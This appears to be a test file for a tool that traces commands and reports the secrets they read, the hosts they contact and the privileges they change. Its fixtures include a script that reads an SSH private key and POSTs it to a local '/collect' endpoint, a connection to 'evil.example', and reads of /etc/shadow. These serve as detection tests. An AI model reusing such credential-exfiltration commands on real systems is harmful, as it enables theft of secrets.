// ksys report of commands that run: secrets, names of hosts, requests, privileges, exit codes, comparison of two runs.
import { execFile, execFileSync, spawn } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { describe, expect, test } from 'vitest'
import { ksys, main, privileged } from '../helpers/ksys.js'
import { scratchDir } from '../helpers/live.js'

const dir = privileged() ? scratchDir('report-live') : ''
const at = (name: string) => join(dir, name)

interface Ran {
  readonly code: number
  readonly stdout: string
}

/** Runs `ksys report ARGS` while this process can serve requests. */
async function report(args: readonly string[], env: Record<string, string> = {}): Promise<Ran> {
  const options = { env: { ...process.env, ...env }, cwd: dir, maxBuffer: 1 << 26 }
  try {
    const { stdout } = await promisify(execFile)(process.execPath, [main, 'report', ...args], options)
    return { code: 0, stdout }
  } catch (e) {
    const { code, stdout } = e as Ran
    return { code, stdout }
  }
}

/** The report of a command as JSON, which goes to a file: standard output is the command's. */
async function jsonOf(command: readonly string[], env?: Record<string, string>, more: readonly string[] = []) {
  const file = at(`${Math.random()}.json`)
  const { code } = await report(['-o', file, ...more, '--', ...command], env)
  return { code, ...JSON.parse(readFileSync(file, 'utf8')) }
}
const whats = (rows: readonly { what: string }[]) => rows.map((r) => r.what)

describe.skipIf(!privileged())('the report of a command', () => {
  test('shows the key that a script sent away, where to, and not the token of the URL', async () => {
    const home = at('home')
    mkdirSync(join(home, '.ssh'), { recursive: true })
    writeFileSync(join(home, '.ssh/id_rsa'), 'secret key')
    const server = createServer((q, r) => {
      q.resume()
      q.on('end', () => r.end('thanks'))
    })
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
    const { port } = server.address() as AddressInfo
    const send = `require('http').request('http://127.0.0.1:${port}/collect?token=hunter2', { method: 'POST' }, (r) => r.resume())
      .end(require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'))`
    try {
      const r = await jsonOf([process.execPath, '-e', send, 'hunter2'], { HOME: home })
      expect(r).toMatchObject({ code: 0, exit_code: 0, folder: dir, arguments: '***' })
      expect(r.secrets).toMatchObject([{ what: './home/.ssh/id_rsa', kind: 'SSH key', did: ['read'] }])
      const host = r.hosts.find((h: { host: string }) => h.host === `127.0.0.1:${port < 32768 ? port : '*'}`)
      expect(host.sent).toBeGreaterThanOrEqual('secret key'.length)
      expect(whats(r.requests)).toEqual([`POST 127.0.0.1:${port}/collect?***`])
      expect(JSON.stringify(r)).not.toContain('hunter2')
    } finally {
      server.close()
    }
  })

  test('shows the name that was looked up for an address', async () => {
    const dns = (await import('dns-packet')).default
    const names = createSocket('udp4')
    names.on('message', (bytes, from) => {
      const { id, questions = [] } = dns.decode(bytes)
      const name = questions[0]?.name ?? ''
      const answers = [{ type: 'A' as const, name, data: '127.0.0.77' }]
      names.send(dns.encode({ type: 'response', id: id ?? 0, questions, answers }), from.port, from.address)
    })
    await new Promise<void>((done) => names.bind(53, '127.0.0.53', done)).catch(() => undefined)
    const ask = `const r = new (require('dns').Resolver)(); r.setServers(['127.0.0.53'])
      r.resolve4('evil.example', (e, a) => { const s = require('net').connect(9, a[0]); s.on('error', () => {}) })`
    try {
      const r = await jsonOf([process.execPath, '-e', ask])
      expect(r.hosts).toContainEqual(expect.objectContaining({ host: 'evil.example:9', addresses: ['127.0.0.77'] }))
      expect(whats(r.lookups)).not.toContain('evil.example')
    } finally {
      names.close()
    }
  })

  test('has the exit code of the command; 7 if something is new', async () => {
    expect(await jsonOf(['sh', '-c', 'exit 3'])).toMatchObject({ code: 3, exit_code: 3 })
    expect(await jsonOf(['sh', '-c', 'kill -TERM $$'])).toMatchObject({ code: 143, exit_code: 143 })
    const baseline = at('base.json')
    await report(['-o', baseline, '--', 'sh', '-c', 'exit 3'])
    const same = await jsonOf(['sh', '-c', 'exit 3'], {}, ['--expect', baseline])
    expect(same).toMatchObject({ code: 3, new: [] })
    const other = await jsonOf(['sh', '-c', 'cat /etc/shadow > /dev/null; exit 3'], {}, ['--expect', baseline])
    expect(other.code).toBe(7)
    expect(other.new).toContainEqual({ section: 'secrets', what: '/etc/shadow' })
  })

  test('shows refused calls and privileges', async () => {
    const script = 'unshare -U true; setpriv --reuid=65534 --clear-groups cat /etc/shadow'
    const r = await jsonOf(['sh', '-c', script])
    expect(whats(r.privileges)).toContain('made new namespaces: user')
    expect(whats(r.privileges)).toContain('changed to user 65534')
    expect(r.refused).toContainEqual({ what: 'openat /etc/shadow: EACCES', count: 1, by: ['cat'] })
    expect(r.secrets).toMatchObject([{ what: '/etc/shadow', did: ['refused'] }])
  })

  test('-w keeps a trace with all calls, of which the same report can be made', async () => {
    const trace = at('kept.ksys')
    const live = await jsonOf(['sh', '-c', 'cat /etc/hostname; mkdir made'], {}, ['-w', trace])
    expect(ksys(['-r', trace, '-p', '%evt.num', 'evt.type=getpid or evt.type=brk']).stdout).not.toBe('')
    const read = JSON.parse(ksys(['report', '-j', '-r', trace]).stdout)
    const { programs, inside, system, folder } = live
    expect(read).toMatchObject({ programs, inside, system, folder })
  })

  test('two builds do not differ, though their temporary files have other names', async () => {
    writeFileSync(at('main.c'), 'int main(void) { return 0; }\n')
    writeFileSync(at('Makefile'), 'main: main.c\n\tcc -o main main.c\n\t./main\n')
    const build = ['make', '-B']
    const baseline = at('make.json')
    expect((await report(['-o', baseline, '--', ...build])).code).toBe(0)
    expect(await jsonOf(build, {}, ['--expect', baseline])).toMatchObject({ code: 0, new: [] })
  })

  test('cloning a local repository twice has nothing new the second time', async () => {
    const git = (...args: string[]) => execFileSync('git', args, { cwd: dir, stdio: 'pipe' })
    git('init', '-q', 'origin')
    writeFileSync(at('origin/file'), 'text')
    git('-C', 'origin', 'add', '.')
    git('-C', 'origin', '-c', 'user.name=a', '-c', 'user.email=a@example.com', 'commit', '-qm', 'first')
    const baseline = at('clone.json')
    expect((await report(['-o', baseline, '--', 'git', 'clone', '-q', 'origin', 'one'])).code).toBe(0)
    const again = await jsonOf(['git', 'clone', '-q', 'origin', 'two'], {}, ['--expect', baseline])
    expect(again).toMatchObject({ code: 0, new: [] })
  })

  test('Ctrl-C ends the command, and the report shows what it did', async () => {
    const file = at('interrupted.json')
    const args = [main, 'report', '-o', file, '--', 'sh', '-c', 'touch begun; exec sleep 1000']
    const run = spawn(process.execPath, args, { cwd: dir, stdio: 'ignore' })
    const ended = new Promise<number | null>((done) => run.on('close', done))
    for (let i = 0; i < 600 && !existsSync(at('begun')); i++) await new Promise((done) => setTimeout(done, 50))
    run.kill('SIGINT')
    expect(await ended).toBe(130)
    const { exit_code, programs } = JSON.parse(readFileSync(file, 'utf8'))
    expect(exit_code).toBe(130)
    expect(JSON.stringify(programs)).toContain('touch')
  })

  test('an existing report stays if the command cannot run', async () => {
    writeFileSync(at('old.md'), 'old')
    const { code } = await report(['-o', at('old.md'), '--', '/none/such'])
    expect(code).toBe(127)
  })
})
